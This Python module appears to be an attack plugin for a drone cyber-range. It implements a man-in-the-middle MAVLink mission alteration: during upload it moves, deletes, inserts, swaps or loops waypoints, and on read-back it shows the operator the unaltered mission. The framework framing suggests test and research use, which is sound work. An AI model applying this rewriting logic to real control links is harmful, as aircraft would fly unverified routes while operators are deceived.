"""Mission alteration: items are altered during the operator's upload, and altered back when the operator reads them.

The man in the middle renumbers requests and items where the altered mission has another order or length, so both ends
see a dialogue that is whole: https://mavlink.io/en/services/mission.html.
"""

from __future__ import annotations

from typing import Any, Final, Literal

import skyrange.plugin as sky
from skyrange.attack.bases.mavlink.orders import read, rewrite
from skyrange.attack.params import check_vehicles
from skyrange.codec.mavlink import dialect as mav

Form = Literal["offset", "delete", "insert", "swap", "jump"]
_MOVED: Final = frozenset((
    mav.MAV_CMD_NAV_WAYPOINT, mav.MAV_CMD_NAV_SPLINE_WAYPOINT, mav.MAV_CMD_NAV_LOITER_UNLIM,
    mav.MAV_CMD_NAV_LOITER_TURNS, mav.MAV_CMD_NAV_LOITER_TIME, mav.MAV_CMD_NAV_LAND,
))  # fmt: skip
"""Commands with a place that an offset moves; a place of latitude 0 and longitude 0 means the present one."""
_TAG: Final = 65_535
"""Tag of the JUMP_TAG that stands for a deleted item: a label that nothing jumps to has no effect."""
_DIALOGUE: Final = frozenset((
    mav.MAVLINK_MSG_ID_MISSION_COUNT, mav.MAVLINK_MSG_ID_MISSION_REQUEST, mav.MAVLINK_MSG_ID_MISSION_REQUEST_INT,
    mav.MAVLINK_MSG_ID_MISSION_ITEM_INT,
))  # fmt: skip
_PROGRESS: Final = frozenset((mav.MAVLINK_MSG_ID_MISSION_CURRENT, mav.MAVLINK_MSG_ID_MISSION_ITEM_REACHED))


@sky.attack(
    "mavlink.mission_alter",
    technique="T0830",
    surface=("gcs", "log", "autopilot"),
    persists="upload",
    effect="the aircraft flies a mission that differs from the one that the operator verified",
    knowledge="the mission protocol; items are read as they pass",
    position="on the path of the control link, so that every frame passes",
    equipment="a router or a compromised modem with a program that rewrites frames",
    budget="no frames of its own; it rewrites those of one upload and its read-back",
    load="the sham: the same frames are replaced by copies of themselves",
    content="an offset below the accuracy of positioning, such as 0.1 m",
    placement="the same alteration of another aircraft's mission",
)
class MissionAlteration(sky.LinkTap):
    """Alters the mission while the operator uploads it, and shows the operator the unaltered one.

    It alters missions that the operator uploads while the attack acts.
    """

    vehicles: sky.Victims = sky.param("Aircraft whose missions are altered, such as ['blue/b1'].")
    on: Literal["gcs", "log", "autopilot"] = sky.param(
        "Link on whose path the attacker is: gcs, or log or autopilot on board.", default="gcs"
    )
    place: sky.PathPlace | None = sky.on_path_place()
    form: Form = sky.param(
        "offset: moves places; delete: an item has no effect; insert: a waypoint before an item; swap: two items; "
        "jump: DO_JUMP instead of an item. Items that the mission does not have leave it unaltered.",
        default="offset",
    )
    item: sky.Whole = sky.param(
        "Number of the item, 1 for the first after home; 0 is all items, for the form 'offset' alone.",
        default=0, ge=0, le=65_534,
    )  # fmt: skip
    other: sky.Whole = sky.param(
        "The item to swap it with, or to jump to, for these forms.", default=1, ge=1, le=65_534
    )
    repeat: sky.Whole = sky.param(
        "How often to jump, for the form 'jump'; -1 is for ever.", default=-1, ge=-1, le=32_767
    )
    offset_m: sky.Enu = sky.param(
        "Offset of places, [east_m, north_m, up_m] in metres, for 'offset'.", default=(0.0, 0.0, 0.0)
    )
    at: sky.Enu | None = sky.param(
        "Place of the waypoint to insert, [east_m, north_m, up_m] in metres from the origin or the attack's anchor, "
        "for 'insert'.",
        default=None,
    )
    origin: sky.Origin
    inserted: sky.Place | None
    """Latitude and longitude in degrees, altitude above mean sea level in metres."""
    messages: frozenset[int]
    """Ids of the messages that it alters."""
    order: list[int] = sky.state(list)
    """See `order_of`; empty until an upload has begun while the attack acts."""
    count: int = 0
    """Length of the operator's mission."""
    originals: dict[int, sky.MavlinkMessage] = sky.state(dict)
    """The operator's items by number."""
    requested: int = -1
    """The number of the item that the aircraft asked for."""

    def find_problems(self) -> sky.Problems:
        if self.form == "offset" and not any(self.offset_m):
            yield sky.Problem("offset_m", repr(list(self.offset_m)), "an offset that is not zero, for 'offset'")
        elif self.form != "offset" and self.item == 0:
            yield sky.Problem("item", "0", f"the number of an item, 1 or more, for {self.form!r}")
        elif self.form == "insert" and self.at is None:
            yield sky.Problem("at", "none", "the place of the waypoint, for 'insert'")
        elif self.form in ("swap", "jump") and self.other == self.item:
            yield sky.Problem("other", repr(self.other), "another item than 'item'")

    def prepare(self, context: sky.AttackContext) -> None:
        """Take the place to insert. Progress is altered where items have other numbers on board."""
        self.origin = context.origin
        self.inserted = None if self.at is None else sky.geodetic(context.origin, self.at)
        self.messages = _DIALOGUE | _PROGRESS if self.form in ("insert", "swap") else _DIALOGUE

    def build(self, context: sky.AttackContext) -> sky.Attack:
        """A tap for each aircraft. Raises `InputError` for aircraft that are not in the scenario."""
        check_vehicles(context, self.vehicles)
        taps = self.make_taps([sky.link_name(self.on, vehicle) for vehicle in self.vehicles], context)
        shown = {} if self.at is None else {"inserted waypoint": self.at}
        return sky.Attack(
            taps=taps, shown=shown, exclusive=[sky.Exclusive(f"plan of {vehicle}") for vehicle in self.vehicles]
        )

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        """Alter a frame of a mission dialogue; a sham sends it on as it is."""
        if sky.message_id(frame.payload) not in self.messages:
            return ()
        if not self.schedule.start_ns <= now < self.schedule.stop_ns:
            return ()
        message = read(frame.payload)
        if message is None or getattr(message, "mission_type", 0) != mav.MAV_MISSION_TYPE_MISSION:
            return ()
        fields = self._to_aircraft(message) if frame.direction == "fwd" else self._to_station(message)
        if fields is None:
            return ()
        return [sky.Replace(frame.payload if self.sham else rewrite(message, _with(message, **fields)))]

    def _to_aircraft(self, message: sky.MavlinkMessage) -> dict[str, Any] | None:
        """The changes of a message towards the aircraft; `None` to let it pass."""
        kind = type(message).id
        if kind == mav.MAVLINK_MSG_ID_MISSION_COUNT:
            self.count = message.count
            self.order = list(range(message.count)) if self.sham else self.order_of(message.count)
            self.originals, self.requested = {}, -1
            return {"count": len(self.order)}
        if kind in _PROGRESS or message.seq >= self.count:
            return None
        if kind != mav.MAVLINK_MSG_ID_MISSION_ITEM_INT:
            return {"seq": self._number_on_board(message.seq)}
        self.originals[message.seq] = message
        requested = self.requested
        seq = (
            requested if requested >= 0 and self.order[requested] == message.seq else self._number_on_board(message.seq)
        )
        return {**self.alter(message, seq), "seq": seq}

    def _to_station(self, message: sky.MavlinkMessage) -> dict[str, Any] | None:
        """The changes of a message towards the station; `None` to let it pass."""
        kind = type(message).id
        if not self.order:
            return None
        if kind == mav.MAVLINK_MSG_ID_MISSION_COUNT:
            return {"count": self.count}
        if message.seq >= len(self.order):
            return None
        seq = self.order[message.seq]
        if kind in (mav.MAVLINK_MSG_ID_MISSION_REQUEST, mav.MAVLINK_MSG_ID_MISSION_REQUEST_INT):
            self.requested = message.seq
        if kind == mav.MAVLINK_MSG_ID_MISSION_CURRENT:
            return {"seq": seq, "total": max(self.count - 1, 0)}
        if kind != mav.MAVLINK_MSG_ID_MISSION_ITEM_INT or seq == 0 or seq not in self.originals:
            return {"seq": seq}
        item = self.originals[seq]
        names = ("frame", "command", "autocontinue", "param1", "param2", "param3", "param4", "x", "y", "z")
        return {"seq": seq, **{name: getattr(item, name) for name in names}}

    def _number_on_board(self, seq: int) -> int:
        """The number on board of an item of the operator's mission."""
        places = [place for place, number in enumerate(self.order) if number == seq]
        return places[-1]

    def order_of(self, count: int) -> list[int]:
        """The number in the operator's mission of each item of the altered one; an inserted item has that of the next.

        The last one is always the operator's last: a ground station believes in the end of an upload only then.
        """
        order = list(range(count))
        if self.form == "insert" and self.item < count:
            order.insert(self.item, self.item)
        elif self.form == "swap" and max(self.item, self.other) < count - 1:
            order[self.item], order[self.other] = self.other, self.item
        return order

    def alter(self, item: sky.MavlinkMessage, seq: int) -> dict[str, Any]:
        """The fields that differ from the operator's item, in item `seq` of the altered mission."""
        if self.form == "offset":
            if seq == 0 or self.item not in (0, seq) or item.command not in _MOVED:
                return {}
            moved = {"z": item.z + self.offset_m[2]}
            if item.x or item.y:
                east, north = self.origin.enu_of(item.x * 1e-7, item.y * 1e-7)
                lat, lon = self.origin.geodetic_of(east + self.offset_m[0], north + self.offset_m[1])
                moved |= {"x": round(lat * 1e7), "y": round(lon * 1e7)}
            return moved
        if seq != self.item:
            return {}
        bare: dict[str, Any] = {f"param{n}": 0.0 for n in range(1, 5)} | {"x": 0, "y": 0, "z": 0.0}
        if self.form == "delete":
            return {**bare, "command": mav.MAV_CMD_JUMP_TAG, "param1": float(_TAG)}
        if self.form == "jump":
            return {
                **bare, "command": mav.MAV_CMD_DO_JUMP, "param1": float(self.other), "param2": float(self.repeat)
            }  # fmt: skip
        if self.form == "insert" and self.inserted is not None:
            lat, lon, alt_m = self.inserted
            return {
                **bare, "command": mav.MAV_CMD_NAV_WAYPOINT, "frame": mav.MAV_FRAME_GLOBAL, "x": round(lat * 1e7),
                "y": round(lon * 1e7), "z": alt_m,
            }  # fmt: skip
        return {}


def _with(message: sky.MavlinkMessage, **fields: Any) -> sky.MavlinkMessage:
    """A message of the same kind with some fields changed."""
    return type(message)(*[fields.get(name, getattr(message, name)) for name in type(message).fieldnames])
